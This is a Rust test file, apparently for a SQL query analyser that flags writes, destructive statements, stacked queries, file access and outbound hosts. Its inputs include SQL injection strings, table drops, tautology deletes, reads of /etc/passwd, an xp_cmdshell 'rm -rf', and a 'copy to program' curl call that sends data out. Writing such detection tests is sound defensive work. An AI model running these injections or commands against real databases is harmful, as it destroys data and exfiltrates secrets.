use super::*;
use proptest::prelude::*;

fn facts(text: &str) -> CodeFacts {
    let mut facts = CodeFacts::default();
    if let Some(query) = query(text) {
        read(query, &mut facts);
    }
    facts
}

#[test]
fn reading_queries_change_nothing() {
    for text in [
        "select * from users where name = 'drop table users'",
        "SELECT \"update\", `delete` FROM t -- ; drop table t",
        "select /* delete from t */ 1",
        "with a as (select 1) select * from a",
        "select replace(name, 'a', 'b'), truncate(x, 2) from t",
        "select * from t where a = 'it''s; drop table t'",
        "select * from t where a = E'it\\'s; drop table t'",
        "select insert(a, 1, 2, 'x') from t",
        "select * from t for update",
        "explain select * from t",
        "select * from t;",
        "select $$drop table t$$",
    ] {
        let facts = facts(text);
        assert!(!facts.writes && !facts.destructive && !facts.unparsed, "{text}: {facts:?}");
        assert!(!is_stacked(text), "{text}");
    }
}

#[test]
fn writes_are_seen_wherever_they_stand() {
    for text in [
        "insert into t values (1)",
        "update t set a = 1 where id = 2",
        "delete from t where id = 2",
        "with x as (delete from t where id = 1 returning *) select * from x",
        "with x as (select 1) insert into t select * from x",
        "explain analyze delete from t where id = 1",
        "merge into t using s on t.id = s.id when matched then update set a = 1",
        "replace into t values (1)",
        "select * into copy from t",
        "select * from t into outfile '/tmp/x'",
        "create table t (id int)",
        "alter table t add column b int",
        "grant all on t to public",
        "call f(1)",
        "copy t from '/etc/passwd' with csv",
        "/*!50000 insert into t values (1) */",
        "(((insert into t values (1))))",
    ] {
        assert!(facts(text).writes, "{text}: {:?}", facts(text));
    }
}

#[test]
fn what_destroys_is_told_from_what_changes() {
    for text in [
        "drop table users",
        "DROP/**/TABLE users",
        "truncate table users",
        "truncate users",
        "delete from users",
        "delete from users where 1=1",
        "delete from users where true",
        "delete from users where 'a'='a'",
        "delete from users where id = 1 or 1=1",
        "update users set admin = true",
        "update users set name = (select name from x where id = 1)",
        "alter table users drop column name",
        "select 1; drop table users",
        "select 1 /*!; drop table users */",
        "select 'a\\'; drop table users; -- '",
        "do $$ begin drop table users; end $$",
        "with x as (delete from users returning *) select * from x",
        "begin; delete from users; commit",
        "explain analyze delete from users",
        "select 1--1; drop table users",
    ] {
        assert!(facts(text).destructive, "{text}: {:?}", facts(text));
    }
    for text in [
        "delete from users where id = 1",
        "delete from users where id in (select id from old)",
        "delete from users where exists (select 1)",
        "delete from users where (id = 3)",
        "delete from users where active and id = 1",
        "update users set a = 1 where id = 1",
        "insert into t values (1)",
    ] {
        assert!(!facts(text).destructive, "{text}");
    }
}

#[test]
fn stacked_statements_are_counted() {
    for text in [
        "select 1; select 2",
        "select 1;;drop table t",
        "x'; DROP TABLE users; --",
        "1; delete from users",
        "shoes'; update users set admin = 1; --",
        "select 'a\\'; drop table t; -- '",
    ] {
        assert!(is_stacked(text), "{text}");
    }
    for text in ["select 1;", "select ';' from t", "select 1 -- ; select 2", "shoes; socks"] {
        assert!(!is_stacked(text), "{text}");
    }
}

#[test]
fn plain_words_are_no_query() {
    for text in [
        "weather in Paris",
        "select a restaurant in Paris",
        "update my address please",
        "delete old mails",
        "drop off at the station",
        "create a poster; insert a picture",
        "with friends in Rome",
        "call mum",
        "show flights; then book one",
        "",
    ] {
        assert_eq!(facts(text), CodeFacts::default(), "{text}");
        assert!(!is_stacked(text), "{text}");
    }
}

#[test]
fn files_and_commands_in_queries_are_read() {
    assert!(facts("select load_file('/etc/passwd')").traversal);
    assert_eq!(facts("select * from t into outfile '/srv/x.csv'").paths, ["/srv/x.csv"]);
    assert_eq!(facts("copy t to program 'curl -d @- https://x.example'").hosts, ["x.example"]);
    assert!(facts("exec xp_cmdshell 'rm -rf /srv'").destructive);
    assert!(facts("select * from dblink('http://10.0.0.1/', 'select 1')").internal_address);
}

#[test]
fn what_does_not_close_is_unparsed() {
    assert!(facts("select 'a from t").unparsed);
    assert!(facts("select 1 from t /* open").unparsed);
    assert!(facts(&format!("select 1 from t {}", "(select 1 ".repeat(500))).unparsed);
    // Each reads in one dialect.
    assert!(!facts("select 'a\\' from t").unparsed);
    assert!(!facts("select 'it\\'s' from t").unparsed);
}

#[test]
fn hostile_queries_are_read_in_one_go() {
    for unit in ["select (", "$a$ ", "/*", "'", "; ", "; select ", "delete from t where (", "\"`'"]
    {
        let text = format!("select 1 from t {}", unit.repeat(50_000 / unit.len()));
        facts(&text);
        is_stacked(&text);
    }
}

proptest! {
    #[test]
    fn no_query_breaks_it(text in "(select|drop|delete from t)[a-z ;'\"`()*/$\\\\=-]{0,60}") {
        facts(&text);
        is_stacked(&text);
    }

    #[test]
    fn comments_and_spaces_hide_nothing(gap in "( |\n|\t|/\\*[a-z ]{0,5}\\*/|-- [a-z]{0,5}\n){1,4}") {
        let text = format!("drop{gap}table{gap}users");
        prop_assert!(facts(&text).destructive, "{}", text);
    }
}
